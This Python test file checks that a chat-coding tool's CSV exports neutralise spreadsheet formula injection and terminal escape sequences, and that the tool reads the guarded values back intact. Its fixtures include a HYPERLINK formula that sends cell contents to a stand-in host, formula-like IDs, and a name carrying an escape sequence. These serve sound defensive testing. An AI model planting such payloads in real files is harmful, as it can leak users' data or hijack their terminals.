"""CSV files that people open in a spreadsheet: nothing in them runs as a formula, and it comes back as it was.

These are the tables of `mi-code profile`, files of codes, samples, the chances of `mi-code power` and the tables of
study reports; tagged chats are tested in `test_formats_tables`.
"""

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from mi_coder.annotation.codings import read_units
from mi_coder.annotation.exports import Coded
from mi_coder.annotation.pull import write_codings
from mi_coder.annotation.pull_of_suggestions import read_choices
from mi_coder.annotation.sample_file import read_ids, read_sample
from mi_coder.cli.main import group
from mi_coder.corpora.standoff import read_standoff
from mi_coder.formats.guard import unguard
from mi_coder.measures.writing import write_rows
from tests.chats import nested_records, read_jsonl, write_jsonl

IDS = ["=1+1", "+1", "-1", "@SUM(A1)", "'=1+1", " =1", "'quoted'", "\tx"]
OPEN = '=HYPERLINK("http://a.example/?x="&A1,"open")'
COUNSELORS = [OPEN, "ann", "+49 30 1"]


def run(*arguments: object) -> Result:
    done = CliRunner().invoke(group, list(map(str, arguments)))
    assert done.exit_code == 0, (done.output, done.exception)
    return done


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula: it is no number, and looks like one."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip().startswith(("=", "+", "-", "@")) or cell.startswith("\t")
    return False


def test_rows_keep_numbers_and_guard_texts_and_names(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [{"=who": OPEN, "value": -0.5, "n": 3, "note": None, "fair": True}]
    write_rows(tmp_path / "a.csv", rows)
    header, row = cells(tmp_path / "a.csv")
    assert header == ["'=who", "value", "n", "note", "fair"]
    assert row == [f"'{OPEN}", "-0.5", "3", "", "True"]
    assert [unguard(cell) for cell in row] == [OPEN, "-0.5", "3", "", "True"]
    write_rows(tmp_path / "a.jsonl", rows)
    assert json.loads((tmp_path / "a.jsonl").read_bytes()) == rows[0]
    write_rows(tmp_path / "none.csv", [])
    assert (tmp_path / "none.csv").read_bytes() == b"\n"


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_rows_may_come_one_by_one_and_a_file_is_whole_or_not_there(ending: str, tmp_path: Path) -> None:
    rows = [{"who": who, "n": n, "same": n == 1} for who in ("=1", "1", "1.0") for n in (0, 1)]
    for name, given in (("all", rows), ("each", iter(rows))):
        write_rows(tmp_path / f"{name}.{ending}", given)
    assert (tmp_path / f"all.{ending}").read_bytes() == (tmp_path / f"each.{ending}").read_bytes()
    if ending == "csv":
        assert cells(tmp_path / "each.csv")[1:3] == [["'=1", "0", "False"], ["'=1", "1", "True"]]

    def broken() -> Iterator[dict[str, object]]:
        yield from rows
        raise ValueError("no more")

    with pytest.raises(ValueError, match="no more"):
        write_rows(tmp_path / f"broken.{ending}", broken())
    assert sorted(path.name for path in tmp_path.iterdir()) == [f"all.{ending}", f"each.{ending}"]


@pytest.fixture
def tagged(tmp_path: Path) -> Path:
    """Coded chats with ids and counselors that a spreadsheet would run."""
    records = [
        record | {"conversation_id": name, "counselor_id": COUNSELORS[at % 3]}
        for at, (name, record) in enumerate(zip(IDS, nested_records(len(IDS)), strict=True))
    ]
    for record in records:
        for message in record["messages"]:
            if message["role"] == "counselor":
                message |= {"codes": ["OQ"], "scores": {"OQ": 0.9}}
    return write_jsonl(tmp_path / "chats.jsonl", records)


def test_profiles_and_counts_run_nothing_and_a_study_reads_the_counts_back(tagged: Path, tmp_path: Path) -> None:
    profile, counts = tmp_path / "p.csv", tmp_path / "c.csv"
    run("profile", tagged, "--by", "counselor_id", "-o", profile, "--counts", counts)
    assert not [cell for path in (profile, counts) for row in cells(path) for cell in row if runs(cell)]
    assert {unguard(row[0]) for row in cells(profile)[1:]} == set(COUNSELORS)
    assert [unguard(row[0]) for row in cells(counts)[1:]] == IDS

    pytest.importorskip("pandas", reason="pandas is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.outcomes.study.chats import read_chats
    from mi_coder.outcomes.study.spec import Data

    chats = read_chats(Data(counts="c.csv"), tmp_path)
    assert list(chats.frame.index) == IDS and chats.counts["OQ"].sum() == chats.frame["messages"].sum() == 32


def test_ids_of_a_table_of_outcomes_match_guarded_or_not(tagged: Path, tmp_path: Path) -> None:
    pytest.importorskip("pandas", reason="pandas is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.outcomes.study.chats import read_chats
    from mi_coder.outcomes.study.spec import Data

    run("profile", tagged, "--counts", tmp_path / "c.csv")
    for form in ("{}", "'{}"):
        rows = [(form.format(name), form.format(OPEN)) for name in ("=1+1", "@SUM(A1)")]
        with (tmp_path / "outcomes.csv").open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([("conversation_id", "site"), *rows])
        chats = read_chats(Data(counts="c.csv", outcomes="outcomes.csv"), tmp_path)
        assert list(chats.frame.index) == ["=1+1", "@SUM(A1)"] and set(chats.frame["site"]) == {OPEN}


def coded(name: str, coder: str, **more: Any) -> Coded:
    number = 100 * IDS.index(name) + len(coder)
    return Coded(
        conversation_id=name, index=0, text_hash="", codes=("OQ",), coder=coder, project=1, annotation=number, **more
    )


def test_pulled_codes_run_nothing_and_are_read_back(tmp_path: Path) -> None:
    told: dict[str, Any] = {"own": ("+A", "B"), "comment": OPEN, "suggestion": "shown", "suggested": ("OQ",)}
    codings = [coded(name, coder, **told) for name in IDS for coder in COUNSELORS]
    write_codings(tmp_path / "codes.csv", codings, "=1", "schema")
    written = cells(tmp_path / "codes.csv")
    assert not [cell for row in written for cell in row if runs(cell)]
    assert unguard(written[1][written[0].index("comment")]) == OPEN
    read = list(read_standoff(tmp_path / "codes.csv"))
    assert [(one.conversation_id, one.coder, one.round) for one in read] == [
        (name, coder, "=1") for name in IDS for coder in COUNSELORS
    ]
    units = read_units([tmp_path / "codes.csv"])
    assert {unit.conversation for unit in units} == set(IDS)
    assert {given.own for unit in units for given in unit.given} == {frozenset({"A", "B"})}
    assert {one.conversation for one in read_choices([tmp_path / "codes.csv"])[0]} == set(IDS)


def test_settled_codes_run_nothing_and_are_read_back(tmp_path: Path) -> None:
    for coder in ("ann", "=ben"):
        write_codings(tmp_path / f"{coder}.csv", [coded(name, coder) for name in IDS], "1", "schema")
    gold, again, chats = (tmp_path / name for name in ("gold.csv", "again.csv", "chats.gold.jsonl"))
    run("adjudicate", "settle", tmp_path / "ann.csv", tmp_path / "=ben.csv", "-o", gold)
    assert not [cell for row in cells(gold) for cell in row if runs(cell)]
    assert [one.conversation_id for one in read_standoff(gold)] == IDS
    run("adjudicate", "settle", gold, "-o", again)
    assert [row[0] for row in cells(again)] == [row[0] for row in cells(gold)]
    said = [{"role": "counselor", "text": "What brings you here?"}]
    write_jsonl(tmp_path / "chats.jsonl", [{"conversation_id": name, "messages": said} for name in IDS])
    run("studio", "gold", tmp_path / "chats.jsonl", gold, "-o", chats)
    records = read_jsonl(chats)
    assert [(each["conversation_id"], each["messages"][0]["gold"]["codes"]) for each in records] == [
        (name, ["OQ"]) for name in IDS
    ]


def test_terminals_obey_no_name(tagged: Path, tmp_path: Path) -> None:
    name, shown = "ann\x1b]0;pwn\x07", r"ann\x1b]0;pwn\x07"
    chats = read_jsonl(tagged)
    write_jsonl(tagged, [chat | {"counselor_id": name} for chat in chats])
    write_codings(
        tmp_path / "codes.csv", [coded(each, coder) for each in IDS for coder in (name, "ben")], "1", "schema"
    )
    for told in (
        run("profile", tagged, "--by", "counselor_id"),
        run("agreement", tmp_path / "codes.csv", "--by", "pair"),
    ):
        assert shown in told.output and not {"\x1b", "\x07"} & set(told.output)


def test_samples_run_nothing_and_are_read_back(tagged: Path, tmp_path: Path) -> None:
    first, rest = tmp_path / "first.csv", tmp_path / "rest.csv"
    design = ("--design", "stratified", "--by", "counselor_id", "--unit", "conversation")
    run("sample", "draw", tagged, "-o", first, "--n", 4, *design)
    assert not [cell for row in cells(first) for cell in row if runs(cell)]
    drawn = read_sample(first)
    names = {row.conversation_id for row in drawn}
    assert len(names) == 4 and names < set(IDS)
    assert {row.stratum for row in drawn} <= set(COUNSELORS)
    strata = json.loads((tmp_path / "first.csv.meta.json").read_bytes())["strata"]
    assert set(strata) == set(COUNSELORS)
    assert read_ids(first) == {f"{row.conversation_id}#{row.index}" for row in drawn}
    run("sample", "draw", tagged, "-o", rest, "--n", 4, "--unit", "conversation", "--exclude", first)
    assert {row.conversation_id for row in read_sample(rest)} == set(IDS) - names


def test_chances_of_power_run_nothing_and_are_read_back(tmp_path: Path) -> None:
    pytest.importorskip("statsmodels", reason="statsmodels is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.annotation.designs import read_chances
    from mi_coder.outcomes.simulate import simulate

    platform = simulate(chats=600, counselors=50, gold=0.4, seed=8)
    for table in (platform.tagged, platform.gold):
        table.index = [f"=1+{name}" for name in table.index]
    platform.write(tmp_path)
    (tmp_path / "study.yaml").write_text(
        "{data: {counts: chats.csv}, techniques: {codes: [REF, EA]}, label_error: {counts: gold.csv},"
        " outcomes: [{name: rating, type: rating, levels: [1, 2, 3, 4, 5], models: [linear]}]}"
    )
    run("power", tmp_path / "study.yaml", "--width", 0.5, "--gold", 90, "-o", tmp_path / "chances.csv")
    assert not [cell for row in cells(tmp_path / "chances.csv") for cell in row if runs(cell)]
    chances = read_chances(tmp_path / "chances.csv")
    assert set(chances) <= set(platform.tagged.index) and sum(chances.values()) == pytest.approx(90)


def test_tables_of_a_study_report_run_nothing_and_are_read_back(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas", reason="pandas is not installed: pip install 'mi-coder[analysis]'")
    pytest.importorskip("matplotlib", reason="matplotlib is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.outcomes.frame_guard import guarded, unguarded
    from mi_coder.outcomes.study.document import Document, write_document
    from mi_coder.outcomes.study.spec import study_of

    frame = pd.DataFrame({"=term": [OPEN, "REF", None], "estimate": [-0.5, 1.25, None], "n": [-1, 2, 3], "sure": True})
    (tmp_path / "chats.csv").write_text("conversation_id,messages,OQ,rating\n")
    study = study_of({"data": {"counts": "chats.csv"}, "outcomes": [{"name": "rating", "type": "rating"}]})
    document = Document("relate", "Title", (), (), (), {"tidy": frame})
    write_document(document, study, tmp_path, tmp_path / "out")
    written = tmp_path / "out" / "tidy.csv"
    assert cells(written)[:2] == [["'=term", "estimate", "n", "sure"], [f"'{OPEN}", "-0.5", "-1", "True"]]
    pd.testing.assert_frame_equal(unguarded(pd.read_csv(written)), frame, check_dtype=False)
    pd.testing.assert_frame_equal(guarded(frame[["estimate", "n", "sure"]]), frame[["estimate", "n", "sure"]])
    assert next(iter(frame.columns)) == "=term" and frame.iloc[0, 0] == OPEN, "the frame itself stays"
